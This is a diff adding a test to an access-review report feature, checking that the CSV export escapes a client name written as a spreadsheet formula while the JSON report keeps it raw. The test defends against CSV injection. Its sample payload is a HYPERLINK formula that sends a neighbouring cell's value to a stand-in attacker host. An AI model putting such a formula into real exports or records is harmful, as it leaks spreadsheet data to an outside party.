@@ -284,6 +284,23 @@ def test_the_report_says_who_decided_what_and_what_changed(client, admins, agent
     assert client.get(f"{REVIEWS}{review.pk}/report.xml").status_code == 404
 
 
+def test_the_report_writes_no_formula_into_a_spreadsheet(client, admins, agent, tenant):
+    """OWASP's CSV injection: a client named like a formula is text in the report."""
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    ApiClientFactory(tenant=tenant, name=evil, scopes=["customer.customer_read--DE"])
+    review = access_review_start(actor=acting(admins[0]), channel=Channel.ADMIN, tenant=tenant)
+    client.force_login(admins[0])
+    report = client.get(f"{REVIEWS}{review.pk}/report.csv").content.decode()
+    rows = list(csv.DictReader(io.StringIO(report)))
+    assert f"'{evil}" in [row["identity"] for row in rows]
+    assert not any(
+        cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell
+    )
+    # the JSON report is data, not a spreadsheet: the name as it is
+    document = json.loads(client.get(f"{REVIEWS}{review.pk}/report.json").content)
+    assert evil in [line["subjectName"] for line in document["lines"]]
+
+
 def test_another_tenants_administrator_reaches_no_review(
     client, admins, agent, tenant, other_tenant
 ):
